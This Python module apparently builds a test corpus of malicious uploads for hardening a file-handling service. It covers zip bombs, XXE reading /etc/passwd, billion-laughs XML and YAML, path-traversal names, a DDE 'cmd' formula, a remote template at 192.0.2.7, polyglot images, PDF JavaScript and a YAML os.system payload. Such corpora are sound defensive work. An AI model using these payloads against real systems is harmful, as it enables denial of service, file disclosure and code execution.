"""Files made to do harm, each with the mark by which its harm would be known if it were kept."""

import io
import struct
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from PIL import Image

from .packing import Member, of_text, pack, zeros
from .quine import quine

MARK = b"canary_payload_77"
SCRIPT = b"<script>" + MARK + b"</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = of_text("[Content_Types].xml", "<Types/>")
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


class Attack(NamedTuple):
    """``kept`` may be true where the harm is taken off (a picture is written anew)."""

    title: str
    name: str
    content: bytes
    kept: bool = False


def docx(text: str = "", *more: Member, main: bytes | None = None) -> bytes:
    """A document of one paragraph with further parts."""
    body = f"<w:document {_W}><w:body><w:p><w:r>{text}</w:r></w:p></w:body></w:document>"
    return pack([_TYPES, of_text("word/document.xml", main or body), *more])


def xlsx(cells: str = "", *more: Member) -> bytes:
    """A workbook of one sheet with further parts."""
    name = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    book = f'<workbook xmlns="{name}" xmlns:r="{_RELS}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
    links = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{_RELS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    sheet = f'<worksheet xmlns="{name}"><sheetData>{cells}</sheetData></worksheet>'
    return pack([
        _TYPES, of_text("xl/workbook.xml", book), of_text("xl/_rels/workbook.xml.rels", links),
        *([] if any(m.name == b"xl/worksheets/sheet1.xml" for m in more) else [of_text("xl/worksheets/sheet1.xml", sheet)]),
        *more,
    ])  # fmt: skip


def picture(kind: str = "JPEG", **more: object) -> bytes:
    """A small honest one."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "red").save(out, kind, **more)
    return out.getvalue()


def attacks() -> Iterator[Attack]:
    """All of them."""
    yield from _archives()
    yield from _office()
    yield from _pictures()
    yield from _pdfs()
    yield from _others()
    yield from _names()


def _archives() -> Iterator[Attack]:
    bomb = zeros(1024)
    yield Attack(
        "zip bomb, 1 MB to 1 GiB", "方案.docx", docx("", Member(b"word/a.xml", bomb, 1 << 30))
    )
    yield Attack("bomb that says it is small (docx)", "方案.docx", docx("", Member(b"word/a.xml", bomb, 1000)))  # fmt: skip
    yield Attack("bomb in the document itself", "方案.docx", pack([_TYPES, Member(b"word/document.xml", bomb, 1000)]))  # fmt: skip
    yield Attack("bomb that says it is small (sheet)", "表.xlsx", xlsx("", Member(b"xl/worksheets/sheet1.xml", bomb, 1000)))  # fmt: skip
    yield Attack("sheet of 1 GiB", "表.xlsx", xlsx("", Member(b"xl/worksheets/sheet1.xml", bomb, 1 << 30)))  # fmt: skip
    inner = pack([Member(b"0", zeros(64), 1 << 26)])
    nested = pack([of_text(f"{n}.zip", inner) for n in range(16)])
    yield Attack("nested archives", "包.docx", docx("", of_text("word/inner.zip", nested)))
    yield Attack("archive of archives of archives", "42.zip", pack([of_text(f"{n}.zip", nested) for n in range(16)]))  # fmt: skip
    yield Attack("archive that holds itself", "r.zip", quine())
    yield Attack("archive that holds itself, called a document", "方案.docx", quine())
    yield Attack("document that holds an archive of itself", "方案.docx", docx("", of_text("word/r.zip", quine())))  # fmt: skip
    yield Attack(
        "overlapping members", "方案.docx", pack([Member(b"x.xml", zeros(200), 200 << 20)], 900)
    )
    yield Attack("thirty thousand members", "方案.docx", pack([of_text("x", "x")], 30_000))
    yield Attack(
        "name that leaves the folder", "方案.docx", docx("", of_text("../../etc/cron.d/x", MARK))
    )
    yield Attack("absolute name", "方案.docx", docx("", of_text("/etc/cron.d/x", MARK)))
    yield Attack(
        "symbolic link", "方案.docx", docx("", of_text("word/link", "/etc/passwd", 0o120777))
    )
    yield Attack("truncated document", "方案.docx", docx("字" * 500)[:-40])
    yield Attack("a program called .docx", "方案.docx", b"MZ\x90\0" + MARK * 20)


def _office() -> Iterator[Attack]:
    yield Attack("macros (docm)", "方案.docm", docx("", of_text("word/vbaProject.bin", MARK)))
    yield Attack("macros in .xlsx", "表.xlsx", xlsx("", of_text("xl/vbaProject.bin", MARK)))
    yield Attack("controls", "表.xlsx", xlsx("", of_text("xl/activeX/activeX1.bin", MARK)))
    yield Attack(
        "DDE formula", "表.xlsx", xlsx("<row r='1'><c r='A1'><f>cmd|'/c calc'!A1</f></c></row>")
    )
    link = of_text("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>')  # fmt: skip
    yield Attack("DDE link", "表.xlsx", xlsx("", link))
    yield Attack("DDE field", "方案.docx", docx('<w:instrText xml:space="preserve"> DDEAUTO c:\\\\x </w:instrText>'))  # fmt: skip
    rel = '<Relationships><Relationship Id="r" Type="x/attachedTemplate" Target="http://192.0.2.7/a.dotm" TargetMode="External"/></Relationships>'
    yield Attack("template fetched from elsewhere", "方案.docx", docx("", of_text("word/_rels/settings.xml.rels", rel)))  # fmt: skip
    packed = "\1Ole10Native".encode("utf-16-le") + MARK
    yield Attack("program packed into a document", "方案.docx", docx("", of_text("word/embeddings/oleObject1.bin", packed)))  # fmt: skip
    entity = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {_W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
    yield Attack("XXE in a document", "方案.docx", docx(main=entity.encode()))
    yield Attack("XXE in two-byte characters", "方案.docx", docx(main=entity.encode("utf-16")))
    yield Attack("XXE in a sheet", "表.xlsx", xlsx("", of_text("xl/sharedStrings.xml", entity)))
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{laughs}]><w:document {_W}><w:body>&l9;</w:body></w:document>'
    yield Attack("billion laughs", "方案.docx", docx(main=text.encode()))
    deep = (
        f"<w:document {_W}><w:body>{'<w:sdt>' * 50_000}{'</w:sdt>' * 50_000}</w:body></w:document>"
    )
    yield Attack("fifty thousand levels", "方案.docx", docx(main=deep.encode()), kept=True)
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    yield Attack("macros in .doc", "方案.doc", old + "_VBA_PROJECT".encode("utf-16-le") + MARK)
    yield Attack("program packed into .doc", "方案.doc", old + packed)
    yield Attack(
        "object in .rtf", "方案.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105" + MARK + b"}}}"
    )


def _pictures() -> Iterator[Attack]:
    yield Attack("GIF and JavaScript", "图.gif", b"GIF89a/*" + SCRIPT + b"*/=1;alert(1)")
    yield Attack("GIF and PHP", "图.php", picture("GIF") + b"<?php " + MARK + b" ?>")
    yield Attack("JPEG and PHP", "图.jpg", picture() + b"<?php " + MARK + b" ?>", kept=True)
    yield Attack("HTML in a comment of a picture", "图.jpg", picture(comment=SCRIPT), kept=True)
    exif = Image.Exif()
    exif[0x010F] = (MARK * 3000).decode()
    yield Attack("50 kB of EXIF", "图.jpg", picture(exif=exif), kept=True)
    png = picture("PNG")
    text = b"tEXtComment\0" + SCRIPT
    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    yield Attack("HTML in a chunk of PNG", "图.png", png[:33] + chunk + png[33:], kept=True)
    yield Attack("picture followed by an archive", "图.jpg", picture() + pack([of_text("a.js", MARK)]) + MARK, kept=True)  # fmt: skip
    row = zlib.compress(b"\0" * 30_001, 9)
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    made = b"".join(struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in ((b"IHDR", head), (b"IDAT", row), (b"IEND", b"")))  # fmt: skip
    yield Attack("900 megapixels", "图.png", b"\x89PNG\r\n\x1a\n" + made)
    yield Attack("SVG with a script", "图.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='" + MARK + b"'/>")  # fmt: skip
    yield Attack("SVG called .png", "图.png", b"<?xml version='1.0'?><svg onload='" + MARK + b"'/>")
    yield Attack("HTML called .jpg", "图.jpg", b"<!doctype html>" + SCRIPT)
    yield Attack("truncated picture", "图.jpg", picture()[:300])


def _pdfs() -> Iterator[Attack]:
    action = b"%%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S%s(" + MARK + b")>>endobj\ntrailer<</Root 1 0 R>>"  # fmt: skip
    yield Attack("script in PDF", "通知.pdf", action % b"/JavaScript/JS")
    yield Attack("script in PDF, name escaped", "通知.pdf", action % b"/J#61vaScr#69pt/JS")
    yield Attack("program started by PDF", "通知.pdf", action % b"/Launch/F")
    inner = zlib.compress(b"2 0 <</S/JavaScript/JS(" + MARK + b")>>")
    yield Attack("script packed in PDF", "通知.pdf", b"%PDF-1.7\n3 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\r\n" + inner + b"\nendstream endobj")  # fmt: skip
    yield Attack("HTML called .pdf", "通知.pdf", b"<html>" + SCRIPT)


def _others() -> Iterator[Attack]:
    yield Attack("test virus", "a.txt", EICAR)
    yield Attack("test virus in PDF", "a.pdf", b"%PDF-1.7\n%" + EICAR)
    yield Attack("shell script", "a.txt", b"#!/bin/sh\n" + MARK)
    yield Attack("HTML called .txt", "a.txt", b"\xef\xbb\xbf <html>" + SCRIPT)
    yield Attack("empty", "a.docx", b"")
    laughs = "\n".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]" for n in range(1, 10))
    yield Attack("billion laughs in YAML", "a.yaml", f"l0: &l0 lol\n{laughs}".encode())
    yield Attack("YAML that nests", "a.yaml", b"[" * 60_000)
    yield Attack("YAML that makes objects", "a.yaml", b"a: !!python/object/apply:os.system ['touch /tmp/" + MARK + b"']")  # fmt: skip
    yield Attack("a million lines of YAML", "a.yaml", b"- a\n" * 1_000_000)


def _names() -> Iterator[Attack]:
    good = picture()
    for title, name in (
        ("300 characters", "长" * 300 + ".jpg"), ("leaves the folder", "../../../etc/passwd.jpg"),
        ("backslashes", "..\\..\\windows\\x.jpg"), ("control characters", "a\x07\x1b[31m.jpg"),
        ("turned around", "a\u202egpj.exe"), ("emoji", "现场😀.jpg"), ("markup", "<img src=x onerror=1>.jpg"),
    ):  # fmt: skip
        yield Attack(f"name: {title}", name, good, kept=True)
